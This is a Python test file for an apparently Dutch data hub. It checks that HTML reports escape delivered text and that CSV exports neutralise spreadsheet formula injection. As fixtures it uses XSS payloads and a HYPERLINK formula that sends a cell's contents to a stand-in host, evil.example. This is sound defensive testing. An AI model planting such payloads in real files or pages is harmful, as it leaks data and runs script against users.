"""Free text from deliveries in the hub's outputs: escaped in every HTML it writes, neutralised against formula
injection in every CSV it writes (OWASP: HTML injection, CSV injection)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import duckdb
import pyarrow as pa
import pytest

from governance.privacy_report import Finding, ReportData, write_site
from governance.publish import seal
from pseudonymisation.keys import KeyStore
from rgw.csv_output import neutralise_formulas, write_csv
from tests.conftest import TEST_OFFICER

REPO = Path(__file__).resolve().parents[1]
SCRIPT = "<script>alert('x')</script>"
IMG = '"><img src=x onerror=alert(1)>'
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"klik")', "+31 10 000", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def test_every_text_cell_a_spreadsheet_would_run_is_prefixed_and_nothing_else_changes():
    table = pa.table(
        {
            "toelichting": [*FORMULAS, "overbewoning", None, "a=b"],
            "aantal": list(range(-4, 5)),
            "buurt": pa.array(["=1", "Tarwewijk", "=1", "x", "y", "z", "w", "v", "u"]).dictionary_encode(),
        }
    )
    safe = neutralise_formulas(table)
    assert safe.column("toelichting").to_pylist() == [*(f"'{f}" for f in FORMULAS), "overbewoning", None, "a=b"]
    assert safe.column("aantal").to_pylist() == list(range(-4, 5))  # numbers keep their sign
    assert safe.column("buurt").to_pylist()[:2] == ["'=1", "Tarwewijk"]
    out = io.BytesIO()
    write_csv(table, out)
    cells = [row[0] for row in csv.reader(io.StringIO(out.getvalue().decode()))][1:]
    assert all(not re.match(r"[=+\-@\t\r]", c) for c in cells)


def test_the_address_and_link_commands_write_csv_through_the_neutraliser(tmp_path):
    from rgw.commands.address import write_table as address_out
    from rgw.commands.link import write_table as link_out

    table = pa.table({"adres": FORMULAS})
    for writer in (address_out, link_out):
        path = tmp_path / f"{writer.__module__}.csv"
        writer(table, path)
        assert [r["adres"] for r in csv.DictReader(path.open(newline=""))] == [f"'{f}" for f in FORMULAS]


def test_no_csv_writer_of_the_hub_bypasses_the_neutraliser():
    """Every module that writes CSV for people goes through rgw.csv_output (synth writes the simulated registries'
    own deliveries, which are input, not output)."""
    writers = re.compile(r"pacsv\.write_csv\(|csv\.writer\(|csv\.DictWriter\(|\.to_csv\(|COPY .* TO .*csv", re.I)
    found = [
        f"{path.relative_to(REPO)}:{n}"
        for folder in ("connectors", "governance", "linkage", "orchestration", "pseudonymisation", "rgw")
        for path in (REPO / folder).rglob("*.py")
        if path.name != "csv_output.py"
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if writers.search(line)
    ]
    assert found == []


def test_the_programme_report_escapes_neighbourhood_names_and_table_cells():
    from datetime import date

    from reports.charts import Chart
    from reports.figures import Figures
    from reports.page import render

    chart = Chart("signalen", f"Meldingen in {SCRIPT}", IMG, "<svg></svg>", ["buurt", SCRIPT], [[IMG, 7]])
    text = render(Figures(2026, date(2026, 11, 30)), [chart], date(2026, 12, 4))
    assert "<script>" not in text and "<img" not in text
    assert "&lt;script&gt;" in text and "&lt;img" in text


def test_the_privacy_report_escapes_what_analysts_and_deliveries_wrote(tmp_path):
    hostile = {
        "user": SCRIPT,
        "until": "2027-01-01",
        "state": "valid",
        "acknowledged": True,
        "granted_by": IMG,
        "last_used": None,
    }
    data = ReportData(
        generated="2026-12-04T00:00:00+00:00",
        purposes=[
            {
                "id": "signalering",
                "name": "Signalering",
                "description": "d",
                "legal_basis": {"gdpr": "AVG"},
                "data_categories": [],
                "privacy_classes": [],
                "row_scope": "r",
                "retention": "1 jaar",
                "columns": [{"table": "t", "column": SCRIPT, "class": "none", "source_fields": [IMG], "through": []}],
                "grants": [hostile],
                "accesses": [{"time": "t", "user": IMG, "action": "query", "outcome": "answered", "statement": SCRIPT}],
            }
        ],
        boundary=[{"source": "meldpunten", "entity": "melding", "field": SCRIPT, "step": "dropped"}],
        findings=[Finding("untagged column", IMG)],
        audit={"records": 1, "intact": True, "head": {"seq": 1, "hash": "0" * 64}},
    )
    for page in write_site(data, tmp_path):
        if page.suffix == ".html":
            text = page.read_text()
            assert "<script>" not in text and "<img" not in text, page.name


@pytest.mark.parametrize("fmt", ["csv"])
def test_rgw_query_csv_neutralises_formulas_from_the_published_dataset(tmp_path, monkeypatch, fmt):
    from datetime import date, timedelta

    from click.testing import CliRunner

    from governance.grants import GrantRegister
    from pseudonymisation.audit import AuditLog
    from rgw.cli import main
    from rgw.settings import HubPaths

    monkeypatch.setenv("RGW_MASTER_KEY", "7b" * 32)
    monkeypatch.setenv("RGW_DATA", str(tmp_path))
    paths = HubPaths(tmp_path).ensure()
    plain = tmp_path / "plain.duckdb"
    con = duckdb.connect(str(plain))
    con.execute("create table selectie_integrale_acties as select unnest(?) as toelichting", [FORMULAS])
    con.execute("create table woning_indicatoren as select 1 as n")
    con.close()
    (paths.published / "selectie_integrale_acties").mkdir(parents=True)
    seal(
        plain,
        paths.published / "selectie_integrale_acties" / "selectie_integrale_acties.duckdb.enc",
        KeyStore(paths.keys),
        "selectie_integrale_acties",
    )
    grants = GrantRegister(paths.access / "grants.json", AuditLog(paths.audit_log))
    grants.grant("ana", "selectie_integrale_acties", date.today() + timedelta(days=3), by=TEST_OFFICER)
    grants.acknowledge("ana", "selectie_integrale_acties")
    out = tmp_path / "uit.csv"
    result = CliRunner().invoke(
        main,
        ["query", "--user", "ana", "--purpose", "selectie_integrale_acties", "--format", fmt, "--out", str(out)]
        + ["select toelichting from selectie_integrale_acties"],
    )
    assert result.exit_code == 0, result.output
    assert [r["toelichting"] for r in csv.DictReader(out.open(newline=""))] == [f"'{f}" for f in FORMULAS]
